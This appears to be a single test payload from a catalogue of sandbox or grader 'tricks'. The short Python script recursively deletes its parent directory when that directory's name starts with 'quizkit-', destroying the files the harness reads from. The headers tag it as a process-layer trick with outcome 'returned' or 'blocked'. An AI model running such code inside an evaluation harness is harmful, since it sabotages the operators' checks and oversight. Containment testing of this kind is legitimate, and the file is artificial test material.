# trick: removes the folder it lives in, and all around it that the parent reads from
# outcome: returned | blocked
# layer: process
import os
import shutil

around = os.path.dirname(os.getcwd())
if os.path.basename(around).startswith("quizkit-"):
    shutil.rmtree(around, ignore_errors=True)
